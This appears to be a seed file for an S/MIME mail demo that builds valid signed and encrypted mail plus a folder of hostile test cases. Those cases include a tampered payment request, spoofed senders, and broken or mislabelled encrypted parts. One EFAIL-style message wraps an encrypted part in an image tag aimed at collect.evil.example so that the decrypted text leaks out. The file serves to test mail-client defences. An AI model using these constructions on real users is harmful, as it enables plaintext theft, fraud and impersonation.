// S/MIME mail of the demo: good, doubtful and wrong, with the demo CA's keys.
// Each entry: [mailbox owner, folder, days ago, fields, whole entity]. Signatures carry the time of seeding,
// so these mails are recent.
import { alternative, attachment, base64, entity, multipart, text } from '../../lib/mime.mjs';
import { p7m, Smime } from '../../lib/smime.mjs';
import { pdf } from './files.mjs';
import { people } from './people.mjs';

const { alice, bob, carol, dave, mallory, stranger } = people;

const offer = () => multipart('mixed', [
  alternative(`Alice,

here is our offer for the Lindqvist account. The price is 48,200, and the second page has the payment plan. Please keep it
between us until Thursday; Priya knows, nobody else does.

The code for the data room is cormorant-41.

Bob
`, `<p>Alice,</p><p>here is our offer for the <b>Lindqvist account</b>. The price is <b>48,200</b>, and the second page has the payment plan.
Please keep it between us until Thursday; Priya knows, nobody else does.</p><p>The code for the data room is <code>cormorant-41</code>.</p><p>Bob</p>`),
  attachment('offer-lindqvist.pdf', 'application/pdf', pdf(['Offer: Lindqvist account', 'Total 48,200', 'Payable in four parts'])),
]);

function replaceOnce(buffer, from, to) {
  const at = buffer.indexOf(from);
  if (at < 0 || from.length !== to.length) throw new Error(`cannot tamper: ${from}`);
  return Buffer.concat([buffer.subarray(0, at), Buffer.from(to), buffer.subarray(at + from.length)]);
}

function good(s) {
  const plain = (t) => text(t);
  return [
    ['alice', 'INBOX', 0.05, { from: bob, to: alice, subject: 'Offer for the Lindqvist account', key: 'offer' },
      s.encrypted(s.clearSigned(offer(), 'bob'), ['alice', 'bob'])],
    ['alice', 'INBOX', 0.5, { from: bob, to: [alice, carol], subject: "Minutes of Tuesday's call", key: 'minutes' },
      s.clearSigned(plain('Present: Alice, Carol, Bob.\n\n1. The move to the new building stays in week 20.\n2. Carol orders the desks.\n3. The next call is on Tuesday at ten.\n\nBob\n'), 'bob')],
    ['alice', 'INBOX', 1.6, { from: bob, to: alice, subject: 'Re: salary bands', key: 'salary' },
      s.encrypted(s.clearSigned(plain('The bands are right now. The quarterly figures are in the vault, not in mail.\n\nBob\n'), 'bob'), ['alice', 'bob'], { cipher: 'aes-256-cbc', indefinite: true })],
    ['alice', 'INBOX', 2.7, { from: bob, to: alice, subject: 'Signed in one piece', key: 'opaque' },
      s.opaqueSigned(plain('This mail is signed as one block. Some older programs show it as an attachment only.\n\nBob\n'), 'bob')],
    ['alice', 'INBOX', 3.8, { from: bob, to: alice, subject: 'Keys for the archive room', key: 'gcm' },
      s.encrypted(plain('The archive room opens with 7711 until Friday.\n'), ['alice', 'bob'], { oaep: ['alice'] })],
    ['alice', 'Archive', 9.2, { from: bob, to: alice, subject: 'Triple wrapped', key: 'triple' },
      s.clearSigned(s.encrypted(s.clearSigned(plain('Signed, encrypted, and signed again.\n'), 'bob'), ['alice', 'bob']), 'bob')],
    ['bob', 'INBOX', 0.4, { from: alice, to: bob, subject: 'Drawings for the tender', key: 'tender' },
      s.encrypted(s.clearSigned(plain('The drawings are final. Sheet 12 is the one they will ask about.\n\nAlice\n'), 'alice'), ['alice', 'bob'])],
    ['bob', 'INBOX', 1.2, { from: alice, to: bob, subject: 'Approved', key: 'approved' },
      s.clearSigned(plain('Approved, all three.\n\nAlice\n'), 'alice')],
    ['carol', 'INBOX', 0.5, { from: bob, to: [alice, carol], subject: "Minutes of Tuesday's call", key: 'minutes-carol' },
      s.clearSigned(plain('Present: Alice, Carol, Bob.\n\n1. The move to the new building stays in week 20.\n2. Carol orders the desks.\n\nBob\n'), 'bob')],
    ['carol', 'INBOX', 2.0, { from: bob, to: carol, subject: 'Not for this plan', key: 'carol-encrypted' },
      s.encrypted(plain('Carol has no key for this.\n'), ['bob'])],
  ];
}

function doubtful(s) {
  const t = (x) => text(x);
  const odd = 'Odd and hostile';
  const clear = s.clearSigned(t('Please transfer 1,000 to the usual account.\n'), 'bob');
  const der = s.envelopedDer(t('The label of this part is wrong, what is inside is not.\n'), ['alice']);
  return [
    ['alice', odd, 0.7, { from: bob, to: alice, subject: 'Encrypted only, old cipher', key: 'cbc' },
      s.encrypted(t('Nothing protects this text against change. Word to find: heliotrope.\n'), ['alice', 'bob'], { cipher: 'aes-256-cbc' })],
    ['alice', odd, 0.8, { from: bob, to: alice, subject: 'Please transfer the money', key: 'tampered' }, replaceOnce(clear, '1,000', '9,000')],
    ['alice', odd, 0.9, { from: bob, to: alice, subject: 'Signed by somebody else', key: 'wrong-from' },
      s.clearSigned(t('This claims to be from Bob and is signed by Mallory.\n'), 'mallory')],
    ['alice', odd, 1.0, { from: { name: 'bob@demo.test', address: mallory.address }, to: alice, subject: 'A name that looks like an address', key: 'display-name' },
      s.clearSigned(t('The display name is an address, the address is another one.\n'), 'mallory')],
    ['alice', odd, 1.1, { from: stranger, to: alice, subject: 'Signed by an unknown authority', key: 'unknown-ca' },
      s.clearSigned(t('Nobody here knows who issued my certificate.\n'), 'stranger')],
    ['alice', odd, 1.2, { from: alice, to: alice, subject: 'Signed with an expired certificate', key: 'expired' },
      s.clearSigned(t('The certificate of this mail ran out long ago.\n'), 'expired')],
    ['alice', odd, 1.3, { from: bob, to: alice, subject: 'Encrypted, with a wrong label', key: 'mislabelled' },
      p7m('signed-data', der)],
    ['alice', odd, 1.4, { from: bob, to: alice, subject: 'Encrypted, labelled as any file', key: 'octet-stream' },
      p7m('', der, { type: 'application/octet-stream' })],
    ['alice', odd, 1.45, { from: bob, to: alice, subject: 'Encrypted, labelled as text', key: 'as-text' },
      entity([['Content-Type', 'text/plain; name="smime.p7m"'], ['Content-Disposition', 'attachment; filename="smime.p7m"']], base64(s.envelopedDer(t('MIAG in plain sight.\n'), ['alice'], { cipher: 'aes-256-cbc', indefinite: true })))],
    ['alice', odd, 1.5, { from: bob, to: alice, subject: 'Encrypted, as a streaming program writes it', key: 'miag' },
      s.encrypted(t('Its base64 begins with the letters M, I, A, G.\n'), ['alice'], { cipher: 'aes-256-cbc', indefinite: true })],
    ['alice', odd, 1.6, { from: bob, to: alice, subject: 'Encrypted for Bob only', key: 'no-key' }, s.encrypted(t('Only Bob can read this.\n'), ['bob'])],
    ['alice', odd, 1.7, { from: mallory, to: alice, subject: 'An encrypted part among others', key: 'partial' },
      multipart('mixed', [t('Look what I found:\n'), s.encrypted(t('A covert part.\n'), ['alice']), t('What does it say?\n')])],
    ['alice', odd, 1.8, { from: mallory, to: alice, subject: 'Image around an encrypted part', key: 'efail' },
      multipart('mixed', [text('<img src="http://collect.evil.example/', { type: 'text/html' }), s.encrypted(t('Must never be joined to an address.\n'), ['alice'], { cipher: 'aes-256-cbc' }), text('">', { type: 'text/html' })])],
    ['alice', odd, 1.9, { from: dave, to: alice, subject: '[Team] Signed before the list added its footer', key: 'list-footer', more: [['List-Id', '<team.demo.test>']] },
      multipart('mixed', [s.clearSigned(t('The list has wrapped this mail.\n'), 'bob'), t('-- \nTeam list\n')])],
    ['alice', odd, 2.0, { from: bob, to: alice, subject: 'A damaged encrypted mail', key: 'damaged' },
      p7m('authEnveloped-data', der.subarray(0, der.length >> 1))],
    ['alice', odd, 2.1, { from: bob, to: alice, subject: 'A changed encrypted mail', key: 'bad-tag' },
      p7m('authEnveloped-data', Buffer.concat([der.subarray(0, der.length - 1), Buffer.from([der[der.length - 1] ^ 1])]))],
    ['alice', odd, 2.2, { from: mallory, to: alice, subject: 'Two kinds of signature', key: 'p7s-only' },
      multipart('mixed', [t('There is a signature file here which signs nothing.\n'), entity([['Content-Type', 'application/pkcs7-signature; name="smime.p7s"'], ['Content-Transfer-Encoding', 'base64'], ['Content-Disposition', 'attachment; filename="smime.p7s"']], base64(Buffer.from('3003020101', 'hex')))])],
  ];
}

export function sealedMail(keys) {
  const s = new Smime(keys);
  return [...good(s), ...doubtful(s)];
}
